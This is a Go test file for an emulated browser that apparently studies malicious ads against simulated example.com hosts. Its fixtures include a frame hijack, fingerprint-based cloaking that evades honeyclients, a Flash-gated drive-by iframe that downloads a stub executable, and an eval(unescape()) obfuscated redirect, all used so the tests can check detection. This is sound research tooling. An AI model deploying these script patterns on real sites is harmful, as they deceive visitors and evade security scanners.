package browser

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"madave/internal/easylist"
	"madave/internal/memnet"
	"madave/internal/minijs"
	"madave/internal/netcap"
)

// testWorld builds a small universe exercising every browser behaviour.
func testWorld() *memnet.Universe {
	u := memnet.NewUniverse()
	u.HandleFunc("www.page.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<h1>Page</h1>
			<img src="http://img.example.com/logo.png">
			<iframe src="http://frame.example.com/inner" width="300"></iframe>
		</body></html>`)
	})
	u.HandleFunc("frame.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><p>frame</p>
			<script>document.write('<img src="http://img.example.com/frame.png">');</script>
		</body></html>`)
	})
	u.HandleFunc("img.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/png")
		io.WriteString(w, "\x89PNGdata")
	})
	u.HandleFunc("hijack.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>top.location = "http://landing.example.com/win";</script></body></html>`)
	})
	u.HandleFunc("landing.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>landed</body></html>")
	})
	u.HandleFunc("cloak.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			if (navigator.plugins.length < 3 || screen.width < 800) {
				window.location = "http://www.google.example.com/";
			} else {
				document.write('<p id="realad">real ad</p>');
			}
		</script></body></html>`)
	})
	u.HandleFunc("www.google.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>search</body></html>")
	})
	u.HandleFunc("nxredir.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>window.location = "http://never-registered.example.zz/";</script></body></html>`)
	})
	u.HandleFunc("driveby.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var found = false;
			var ps = navigator.plugins;
			for (var i = 0; i < ps.length; i++) {
				if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
			}
			if (found) {
				document.write('<iframe src="http://exploit.example.com/go" width="1" height="1"></iframe>');
			}
		</script></body></html>`)
	})
	u.HandleFunc("exploit.example.com", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/go" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<html><body><script>window.location = "http://exploit.example.com/payload.exe";</script></body></html>`)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		io.WriteString(w, "MZ\x90EVIL:test")
	})
	u.HandleFunc("timer.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var order = "";
			setTimeout(function() { order += "b"; document.write("<p>" + order + "</p>"); }, 200);
			setTimeout(function() { order += "a"; }, 100);
		</script></body></html>`)
	})
	u.HandleFunc("sandboxed.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<iframe src="http://hijack.example.com/" sandbox="allow-scripts"></iframe>
		</body></html>`)
	})
	u.HandleFunc("redir1.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://redir2.example.com/", http.StatusFound)
	})
	u.HandleFunc("redir2.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://www.page.example.com/", http.StatusMovedPermanently)
	})
	u.HandleFunc("flash.example.com", func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".swf") {
			w.Header().Set("Content-Type", "application/x-shockwave-flash")
			io.WriteString(w, "FWSflashbytes")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><embed src="http://flash.example.com/m.swf" type="application/x-shockwave-flash"></body></html>`)
	})
	u.HandleFunc("obf.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		// eval(unescape("top.location = \"http://landing.example.com/x\";"))
		payload := `top.location = "http://landing.example.com/x";`
		var enc strings.Builder
		for i := 0; i < len(payload); i++ {
			fmt.Fprintf(&enc, "%%%02x", payload[i])
		}
		fmt.Fprintf(w, `<html><body><script>eval(unescape("%s"));</script></body></html>`, enc.String())
	})
	return u
}

func newBrowser(u *memnet.Universe, profile Profile) (*Browser, *netcap.Capture) {
	cap := netcap.New(&memnet.Transport{U: u})
	client := &http.Client{
		Transport: cap,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	b := New(client, profile)
	b.Capture = cap
	return b, cap
}

func TestLoadBasicPage(t *testing.T) {
	b, cap := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://www.page.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if page.Status != 200 || page.Doc == nil {
		t.Fatalf("page = %+v", page)
	}
	if len(page.Frames) != 1 {
		t.Fatalf("frames = %d", len(page.Frames))
	}
	inner := page.Frames[0]
	if !strings.Contains(inner.HTML(), "frame") {
		t.Fatalf("inner html = %q", inner.HTML())
	}
	// The frame's document.write ran: a second image was fetched.
	imgs := 0
	for _, tx := range cap.All() {
		if strings.Contains(tx.URL, "img.example.com") {
			imgs++
		}
	}
	if imgs != 2 {
		t.Fatalf("image fetches = %d, want 2 (static + written)", imgs)
	}
}

func TestDocumentWriteAppends(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://frame.example.com/inner", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Doc.Find("img")) != 1 {
		t.Fatalf("written img not in DOM: %s", page.HTML())
	}
}

func TestTopLocationHijackDetected(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://hijack.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 {
		t.Fatalf("navigations = %+v", navs)
	}
	if navs[0].Kind != NavTop || !strings.Contains(navs[0].Target, "landing.example.com") {
		t.Fatalf("nav = %+v", navs[0])
	}
	if navs[0].Blocked {
		t.Fatal("unsandboxed hijack must not be blocked")
	}
	if navs[0].Status != 200 {
		t.Fatalf("followed status = %d", navs[0].Status)
	}
}

func TestSandboxBlocksHijack(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://sandboxed.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 {
		t.Fatalf("navigations = %+v", navs)
	}
	if !navs[0].Blocked {
		t.Fatal("sandbox(allow-scripts) must block top navigation")
	}
}

func TestSandboxWithoutAllowScriptsDisablesScripts(t *testing.T) {
	u := testWorld()
	u.HandleFunc("strict.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><iframe src="http://hijack.example.com/" sandbox></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://strict.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.AllNavigations()) != 0 {
		t.Fatal("bare sandbox must prevent script execution entirely")
	}
}

func TestCloakingBranchesByProfile(t *testing.T) {
	// User profile: 4 plugins, big screen — sees the real ad.
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://cloak.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Navigations) != 0 {
		t.Fatalf("user profile should not be redirected: %+v", page.Navigations)
	}
	if !strings.Contains(page.HTML(), "realad") {
		t.Fatal("user profile should see real ad")
	}

	// Honeyclient profile: sparse — gets bounced to the benign site.
	hb, _ := newBrowser(testWorld(), HoneyclientProfile())
	hpage, err := hb.Load("http://cloak.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(hpage.Navigations) != 1 || hpage.Navigations[0].Kind != NavLocation {
		t.Fatalf("honeyclient navigations = %+v", hpage.Navigations)
	}
	if !strings.Contains(hpage.Navigations[0].Target, "google") {
		t.Fatalf("cloak target = %q", hpage.Navigations[0].Target)
	}
}

func TestNXDomainNavigation(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page, err := b.Load("http://nxredir.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Navigations) != 1 || !page.Navigations[0].NXDomain {
		t.Fatalf("navigations = %+v", page.Navigations)
	}
}

func TestDriveByDownloadObserved(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page, err := b.Load("http://driveby.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	downloads := page.AllDownloads()
	if len(downloads) != 1 {
		t.Fatalf("downloads = %+v", downloads)
	}
	d := downloads[0]
	if d.ContentType != "application/octet-stream" || !strings.HasPrefix(string(d.Body), "MZ") {
		t.Fatalf("download = %+v", d)
	}
}

func TestDriveByRequiresVulnerablePlugin(t *testing.T) {
	safe := Profile{
		Name: "patched", UserAgent: "x",
		Plugins: []Plugin{{Name: "Shockwave Flash", Version: 12}, {Name: "Java", Version: 9}, {Name: "PDF Viewer", Version: 11}},
		ScreenW: 1920, ScreenH: 1080,
	}
	b, _ := newBrowser(testWorld(), safe)
	page, err := b.Load("http://driveby.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.AllDownloads()) != 0 {
		t.Fatal("patched browser must not receive the payload")
	}
}

func TestSetTimeoutOrdering(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://timer.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	// Delay 100 runs before delay 200, so by the time the 200ms callback
	// writes, order is "ab".
	if !strings.Contains(page.HTML(), "<p>ab</p>") {
		t.Fatalf("timer order wrong: %s", page.HTML())
	}
}

func TestHTTPRedirectChainFollowed(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://redir1.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if page.FinalURL != "http://www.page.example.com/" {
		t.Fatalf("final = %q", page.FinalURL)
	}
	if len(page.RedirectHops) != 3 {
		t.Fatalf("hops = %v", page.RedirectHops)
	}
}

func TestFlashEmbedDownloaded(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://flash.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	downloads := page.AllDownloads()
	if len(downloads) != 1 || downloads[0].ContentType != "application/x-shockwave-flash" {
		t.Fatalf("downloads = %+v", downloads)
	}
	if !strings.HasPrefix(string(downloads[0].Body), "FWS") {
		t.Fatal("flash bytes missing")
	}
}

func TestObfuscatedHijackStillDetected(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://obf.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 || navs[0].Kind != NavTop {
		t.Fatalf("navigations = %+v", navs)
	}
}

func TestAdBlockerSuppressesFrames(t *testing.T) {
	list, err := easylist.ParseString("||hijack.example.com^\n||frame.example.com^")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := newBrowser(testWorld(), UserProfile())
	b.Blocker = list
	page, err := b.Load("http://www.page.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Frames) != 0 {
		t.Fatal("blocked frame should not load")
	}
	if len(page.Blocked) != 1 || !strings.Contains(page.Blocked[0], "frame.example.com") {
		t.Fatalf("blocked = %v", page.Blocked)
	}
}

func TestLoadHTMLOffline(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page := b.LoadHTML(`<html><body><script>top.location = "http://landing.example.com/w";</script></body></html>`,
		"http://snapshot.example.com/ad")
	if len(page.Navigations) != 1 || page.Navigations[0].Kind != NavTop {
		t.Fatalf("navigations = %+v", page.Navigations)
	}
}

func TestScriptErrorsDoNotAbortPage(t *testing.T) {
	u := testWorld()
	u.HandleFunc("broken.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<script>totally.broken.code(</script>
			<script>document.write('<p id="ok">still ran</p>');</script>
		</body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://broken.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Errors) == 0 {
		t.Fatal("expected a script error")
	}
	if !strings.Contains(page.HTML(), "still ran") {
		t.Fatal("later scripts should still run")
	}
}

func TestRunawayScriptBounded(t *testing.T) {
	u := testWorld()
	u.HandleFunc("loop.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>while (true) { var x = 1; }</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	b.ScriptBudget = 100_000
	page, err := b.Load("http://loop.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Errors) == 0 || !strings.Contains(page.Errors[0], "budget") {
		t.Fatalf("errors = %v", page.Errors)
	}
}

func TestRefererPropagation(t *testing.T) {
	u := testWorld()
	var gotRef string
	u.HandleFunc("refcheck.example.com", func(w http.ResponseWriter, r *http.Request) {
		gotRef = r.Header.Get("Referer")
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>ok</body></html>")
	})
	u.HandleFunc("parent.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><iframe src="http://refcheck.example.com/"></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	if _, err := b.Load("http://parent.example.com/", ""); err != nil {
		t.Fatal(err)
	}
	if gotRef != "http://parent.example.com/" {
		t.Fatalf("referer = %q", gotRef)
	}
}

func TestProfiles(t *testing.T) {
	up := UserProfile()
	hp := HoneyclientProfile()
	if len(up.Plugins) < 3 {
		t.Fatal("user profile needs a rich plugin list")
	}
	if len(hp.Plugins) >= 3 {
		t.Fatal("honeyclient profile must look sparse")
	}
	vulnerable := false
	for _, p := range hp.Plugins {
		if p.Name == "Shockwave Flash" && p.Version < 11 {
			vulnerable = true
		}
	}
	if !vulnerable {
		t.Fatal("honeyclient must advertise a vulnerable Flash")
	}
}

// TestStrictLoadsThroughSharedCodeCache checks the crawler's side of the
// study-wide code cache: a strict browser renders a page with clean and
// broken scripts identically — HTML and exact Page.Errors strings — with
// no cache, with a cold cache, and with a cache a tolerant browser filled
// first.
func TestStrictLoadsThroughSharedCodeCache(t *testing.T) {
	const html = `<html><body>
		<script>document.write('<p id="a">clean</p>');</script>
		<script>var x = ; document.write('<p id="b">broken</p>');</script>
		<script>throw
		1;</script>
		<script>document.write('<p id="c">' + Math.floor(2.5) + '</p>');</script>
	</body></html>`
	render := func(cc *minijs.CodeCache, tolerant bool) (string, string) {
		b, _ := newBrowser(testWorld(), UserProfile())
		b.CodeCache = cc
		b.TolerantJS = tolerant
		page := b.LoadHTML(html, "http://strict.example.com/")
		return page.HTML(), strings.Join(page.Errors, "\n")
	}
	wantHTML, wantErrs := render(nil, false)
	if !strings.Contains(wantErrs, "script: ") || strings.Count(wantErrs, "\n") != 1 {
		t.Fatalf("want two strict syntax errors, got:\n%s", wantErrs)
	}
	warm := minijs.NewCodeCache(16, nil)
	render(warm, true)
	for name, cc := range map[string]*minijs.CodeCache{"cold": minijs.NewCodeCache(16, nil), "tolerant-warmed": warm} {
		gotHTML, gotErrs := render(cc, false)
		if gotHTML != wantHTML || gotErrs != wantErrs {
			t.Errorf("%s cache: strict render differs from uncached\nhtml %q\nwant %q\nerrors %q\nwant   %q",
				name, gotHTML, wantHTML, gotErrs, wantErrs)
		}
	}
	if st := warm.Stats(); st.Hits != 4 {
		t.Errorf("strict loads after tolerant ones should all hit: stats %+v", st)
	}
}
